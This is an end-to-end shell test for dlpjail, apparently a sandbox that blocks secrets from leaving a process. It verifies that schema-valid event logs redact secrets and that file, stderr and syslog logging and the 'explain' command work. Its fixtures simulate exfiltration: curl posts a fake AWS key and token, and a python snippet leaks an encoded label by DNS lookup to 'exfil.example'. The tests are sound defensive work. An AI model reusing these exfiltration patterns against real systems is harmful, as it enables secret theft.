#!/bin/sh
# 310-events: event lines follow the v1 schema (doc/events.schema.json),
# carry session, id, ppid and argv (secrets redacted), go to a file, stderr
# or syslog, and `dlpjail explain ID` tells one block's story, redacted.
. "$(dirname "$0")/lib.sh"

SCHEMA="$top_srcdir/doc/events.schema.json"
V="python3 $top_srcdir/t/e2e/validate-events.py $SCHEMA"
start_http 127.0.0.1 h
export XDG_CONFIG_HOME="$T/config" HOME="$T/home"
mkdir -p "$HOME"
KEY=AKIAQWERTYUIOPASDFGH
SECRETARG=s3cr3tV4lue0123456789abcdef

jail --allow 127.0.0.1 -- sh -c "curl -s http://127.0.0.1:$h_PORT/ok >/dev/null;
	curl -s -H 'X-Token: $SECRETARG' -d 'k=$KEY' http://127.0.0.1:$h_PORT/leak;
	curl -s http://127.0.0.2:$h_PORT/denied" >/dev/null 2>"$T/stderr"
check "events were written" [ -s "$T/events.jsonl" ]
out=$($V "$T/events.jsonl"); rc=$?
check "every event is valid under the v1 schema ($out)" [ "$rc" -eq 0 ]
check "events say v:1 and carry a session and an id" event_has '^\{"v":1,' '"session":"[0-9a-f]{16}"' '"id":"[0-9a-f]{16}-[0-9]+"'
check "ppid and argv of the process" event_has '"ppid":[0-9]+' '"argv":\["curl","-s"'
check "the content block names detector and mode" event_has '"detector":"aws-access-key-id"' '"mode":"enforce"' '"proto":"tcp"'
check "the key never reaches the log" sh -c "! grep -q '$KEY' '$T/events.jsonl'"
check "a secret-looking argument is redacted in argv" sh -c "! grep -q '$SECRETARG' '$T/events.jsonl' && grep -q 'X-Token: s3cr' '$T/events.jsonl'"
# an attacker's script names the data it sends inside its own command line
rm -f "$T/ev2.jsonl"
LABEL=Z2hwX1NlY3JldFRva2VuRXhmaWw
"$DLPJAIL" --no-default-policy -q --log "$T/ev2.jsonl" python3 -c "
import socket
try: socket.getaddrinfo('$LABEL.exfil.example', 443)
except OSError: pass" 2>/dev/null
check "a label inside a python -c script is redacted in argv" sh -c "grep -q '\"argv\":\[' '$T/ev2.jsonl' && ! grep -q '$LABEL' '$T/ev2.jsonl'"
# short passwords with no digits: redacted by the name before them
rm -f "$T/ev3.jsonl"
"$DLPJAIL" --no-default-policy -q --log "$T/ev3.jsonl" curl -s --oauth2-bearer letmeinplease \
	-H 'X-Api-Key: opensesame' -d password=hunterpass http://127.0.0.2:$h_PORT/ >/dev/null 2>&1
check "values after a secret's name are redacted in argv, whatever their shape" \
	sh -c "grep -q '\"argv\":\[\"curl\"' '$T/ev3.jsonl' && ! grep -Eq 'letmeinplease|opensesame|hunterpass' '$T/ev3.jsonl'"
check "and the names stay readable" sh -c "grep -q 'oauth2-bearer' '$T/ev3.jsonl' && grep -q 'X-Api-Key: ' '$T/ev3.jsonl' && grep -q 'password=' '$T/ev3.jsonl'"
check "ids are unique" sh -c "[ \$(grep -o '\"id\":\"[^\"]*\"' '$T/events.jsonl' | sort | uniq -d | wc -l) -eq 0 ]"
check "the summary says how to explain a block" grep -q 'the whole story: dlpjail explain [0-9a-f]*-[0-9]* --log' "$T/stderr"

# explain: the content block
id=$(grep '"detector":"aws-access-key-id"' "$T/events.jsonl" | head -1 | sed 's/.*"id":"\([^"]*\)".*/\1/')
out=$("$DLPJAIL" explain "$id" --log "$T/events.jsonl"); rc=$?
check "explain finds the event" [ "$rc" -eq 0 ] && printf '%s' "$out" | grep -q "^event $id"
check "explain names the detector and the redacted match" sh -c "printf '%s' \"\$1\" | grep -q 'detector  aws-access-key-id' && printf '%s' \"\$1\" | grep -q 'match     AKIA'" _ "$out"
check "explain gives the command line" sh -c "printf '%s' \"\$1\" | grep -q 'argv .*curl'" _ "$out"
check "explain says allowing a host does not help" sh -c "printf '%s' \"\$1\" | grep -q 'allowing a host never allows a secret'" _ "$out"
check "explain never shows the key or the argument" sh -c "! printf '%s' \"\$1\" | grep -q -e '$KEY' -e '$SECRETARG'" _ "$out"
id=$(grep '"rule":"default-deny' "$T/events.jsonl" | head -1 | sed 's/.*"id":"\([^"]*\)".*/\1/')
out=$("$DLPJAIL" explain "$id" --log "$T/events.jsonl")
check "explain of a destination block says what to allow" sh -c "printf '%s' \"\$1\" | grep -q -- '--allow 127.0.0.2'" _ "$out"
"$DLPJAIL" explain 0000000000000000-1 --log "$T/events.jsonl" >/dev/null 2>&1
check "explain of an unknown id fails" [ $? -eq 1 ]

# monitor mode is in the events
rm -f "$T/events.jsonl"
jail --monitor -- curl -s "http://127.0.0.1:$h_PORT/mon" >/dev/null 2>&1
check "monitor mode: mode and action say so" event_has '"action":"logged"' '"mode":"monitor"'
$V "$T/events.jsonl" >/dev/null
check "monitor events are valid too" [ $? -eq 0 ]

# stderr
out=$("$DLPJAIL" --no-default-policy -q --log - curl -s "http://127.0.0.1:$h_PORT/e" 2>&1 >/dev/null)
printf '%s\n' "$out" | grep '^{' > "$T/stderr.jsonl"
$V "$T/stderr.jsonl" >/dev/null
check "--log - writes valid events to stderr" [ $? -eq 0 ] && grep -q '"verdict":"deny"' "$T/stderr.jsonl"

# syslog: a test daemon on its own socket (DLPJAIL_SYSLOG_SOCKET; default /dev/log)
python3 "$top_srcdir/t/e2e/syslogd.py" "$T/log.sock" "$T/syslog.out" &
PIDS="$PIDS $!"
i=0; while [ ! -e "$T/syslog.out.ready" ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i + 1)); done
DLPJAIL_SYSLOG_SOCKET="$T/log.sock" "$DLPJAIL" --no-default-policy -q --log syslog \
	curl -s -d "k=$KEY" "http://127.0.0.1:$h_PORT/sys" >/dev/null 2>&1
sleep 0.2
check "syslog received the events" grep -q '"op":"connect"' "$T/syslog.out"
check "with a syslog header: warning priority for a block" grep -Eq '^<12>[A-Z][a-z]{2} [ 0-9][0-9] [0-9:]{8} dlpjail\[[0-9]+\]: \{"v":1,.*"verdict":"deny"' "$T/syslog.out"
sed 's/^[^{]*//' "$T/syslog.out" | grep '^{' > "$T/syslog.jsonl"
$V "$T/syslog.jsonl" >/dev/null
check "syslog messages are valid events" [ $? -eq 0 ]
DLPJAIL_SYSLOG_SOCKET="$T/nosuch.sock" "$DLPJAIL" --no-default-policy --log syslog touch "$T/ran" 2>/dev/null; rc=$?
check "no syslog daemon: dlpjail refuses to run (125), unlogged is not protected" [ "$rc" -eq 125 ] && [ ! -e "$T/ran" ]

# the real /dev/log, inside a mount namespace where a test daemon owns it
if unshare -rm true 2>/dev/null || { [ "$(id -u)" -eq 0 ] && unshare -m true 2>/dev/null; }; then
	if [ "$(id -u)" -eq 0 ]; then U="unshare -m"; else U="unshare -rm"; fi
	mkdir -p "$T/devlog"
	$U --propagation private sh -c "
		mount -t tmpfs none '$T/devlog' && touch '$T/devlog/log' 2>/dev/null
		[ -e /dev/log ] || touch /dev/log 2>/dev/null
		python3 '$top_srcdir/t/e2e/syslogd.py' '$T/devlog/sock' '$T/devlog.out' & p=\$!
		i=0; while [ ! -e '$T/devlog.out.ready' ] && [ \$i -lt 100 ]; do sleep 0.05; i=\$((i+1)); done
		mount --bind '$T/devlog/sock' /dev/log || { kill \$p; exit 3; }
		'$DLPJAIL' --no-default-policy -q --no-mountns --log syslog curl -s http://127.0.0.1:$h_PORT/devlog >/dev/null 2>&1
		sleep 0.2; kill \$p" 2>/dev/null; rc=$?
	if [ "$rc" -ne 3 ]; then
		check "--log syslog goes to /dev/log by default" grep -q '"op":"connect"' "$T/devlog.out"
	fi
fi
finish
